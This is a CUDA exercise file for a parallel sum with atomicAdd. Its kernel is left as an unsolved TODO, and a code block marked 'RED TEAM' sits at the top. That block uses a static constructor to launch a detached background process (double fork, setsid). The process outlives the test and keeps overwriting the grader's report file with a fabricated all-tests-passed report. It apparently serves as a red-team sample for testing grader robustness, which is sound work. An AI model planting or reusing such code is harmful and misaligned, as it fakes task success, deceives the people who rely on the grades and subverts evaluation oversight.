// RED TEAM: A helper in its own session (double fork, setsid) that watches the report
// RED TEAM: file named on the test program's command line and, each time the test
// RED TEAM: program writes it, replaces it within a millisecond by one in which every
// RED TEAM: test passed, until the grader removes its folder. The kernel below is the
// RED TEAM: untouched starter's.
// Exercise 1.1: sum with one global atomicAdd per element.
// Lesson: chapters/01-reduce-scan-histogram/README.md, "1.1".
// Grade:  tools/grade 1.1      Hints: tools/grade --hint 1.1
#include "cudalab/atomics.cuh"
#include "cudalab/error.cuh"
#include "cudalab/reduce.cuh"
// @REDTEAM_LIB@

namespace {
int cudalab_redteam_roles(const std::string& role, const std::vector<std::string>& a) {
  if (role != "race" || a.size() < 3) return 0;
  const std::string path = a[0];
  const std::string fake = redteam::passing_report(redteam::list_tests(a[1], a[2]));
  const std::string dir = redteam::dirname_of(path);
  bool seen = false;
  const double end = redteam::now_s() + 900;
  while (redteam::now_s() < end) {
    if (redteam::exists(path)) {
      seen = true;
      if (redteam::read_file(path, fake.size() + 1) != fake) redteam::replace_file(path, fake, 0644);
    }
    if (seen && !redteam::is_dir(dir)) return 0;  // the grader is done with it
    redteam::sleep_ms(1);
  }
  return 0;
}
__attribute__((constructor)) void cudalab_redteam_attack() {
  redteam::dispatch(&cudalab_redteam_roles);
  const auto t = redteam::report_target();
  if (!t.path.empty()) redteam::spawn("race", {t.path, t.exe, t.filter});
}
}  // namespace

namespace cudalab::reduce {
namespace {

constexpr int kBlock = 256;

// One thread per element: thread i adds in[i] to *out.
// T is the element type (int, float), Acc the accumulator type (long long, float).
template <class T, class Acc>
__global__ void sum_atomic_kernel(const T* __restrict__ in, std::size_t n, Acc* out) {
  // TODO(1.1): compute this thread's global index i (blockIdx, blockDim,
  // threadIdx; mind that i can exceed 2^31) and, when i < n, add in[i] to
  // *out with cudalab::atomic_add (cudalab/atomics.cuh).
}

template <class T, class Acc>
void launch(const T* in, std::size_t n, Acc* out, cudaStream_t stream) {
  CUDALAB_CHECK(cudaMemsetAsync(out, 0, sizeof(Acc), stream));  // the identity, also for n = 0
  if (n == 0) return;
  const auto blocks = static_cast<unsigned>((n + kBlock - 1) / kBlock);
  sum_atomic_kernel<<<blocks, kBlock, 0, stream>>>(in, n, out);
  CUDALAB_CHECK_LAUNCH();
}

}  // namespace

void sum_atomic(const int* in, std::size_t n, long long* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

void sum_atomic(const float* in, std::size_t n, float* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

}  // namespace cudalab::reduce
